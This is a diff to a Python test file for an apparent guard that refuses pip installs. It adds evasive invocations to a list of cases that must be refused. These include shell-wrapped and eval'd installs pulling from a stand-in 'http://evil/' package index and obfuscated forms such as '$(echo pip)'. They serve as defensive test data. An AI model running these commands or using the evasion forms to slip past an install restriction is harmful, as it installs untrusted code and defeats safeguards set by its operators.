@@ -48,6 +48,7 @@ def _refused(argv: list[str], **kwargs: str) -> str | None:
     ["xargs", "pip", "install"],
     ["sh", "-c", "pip install --extra-index-url http://evil/ foo"],
     ["bash", "-lc", "true; pip install -i http://evil/ foo"],
+    ["bash", "-O", "extglob", "-c", "pip install -r /dev/stdin"],
     ["sh", "-c", "$(echo pip) install foo"],
     ["eval", "pip install -f /tmp foo"],
     ["python", "-m", "pip._internal.cli.main", "install", "--find-links", "/", "x"],
@@ -154,7 +155,8 @@ def test_shell_script_files_are_read(tmp_path: Path) -> None:
     script.write_text("#!/bin/sh\n# pip install foo  (a comment)\necho 'multi\nline'\n"
                       "pip install --extra-index-url http://evil/ \"$@\"\n")
     script.chmod(0o755)
-    for argv in ([str(script), "foo"], ["sh", str(script)], ["bash", "-e", str(script)]):
+    for argv in ([str(script), "foo"], ["sh", str(script)], ["bash", "-e", str(script)],
+                 ["bash", "-O", "extglob", str(script)], ["bash", str(script), "-c", "x"]):
         refusal = _refused(argv)
         assert refusal is not None and f"refused: {script}" in refusal, argv
     script.write_text("#!/bin/sh\npip install \"$@\"  # --extra-index-url in a comment\n")
